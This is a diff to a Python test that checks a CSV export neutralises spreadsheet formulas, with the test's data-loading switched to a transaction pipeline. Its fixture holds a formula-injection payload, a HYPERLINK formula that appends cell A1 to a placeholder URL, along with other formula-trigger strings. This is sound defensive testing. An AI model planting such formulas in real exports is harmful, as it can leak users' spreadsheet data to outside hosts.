@@ -10,7 +10,8 @@ import pandas as pd
 import pytest
 import sqlalchemy as sa
 
-from atlas import csvsafe, search
+from atlas import csvsafe
+from loaders import pipeline
 
 FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Voir")'
 
@@ -50,9 +51,9 @@ def test_csv_export_neutralises_formulas_not_numbers(clean, config):
 
     rows = [(FORMULA, "-2+3 ateliers", "97105", -61.73, 15.99),  # Basse-Terre
             ("@atelier", "+ de 20 postes", "94076", None, None)]
-    with clean.begin() as conn:
-        initiatives.merge(conn, _records(rows), "csv-test", LoadReport("csv-test"))
-        search.refresh(conn)
+    with pipeline.transaction(clean) as w:
+        initiatives.merge(w.conn, _records(rows), "csv-test", LoadReport("csv-test"),
+                          w.changes)
     client = create_app(config).test_client()
     data = client.get("/export/initiatives.csv?source=csv-test").get_data()
     df = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig",
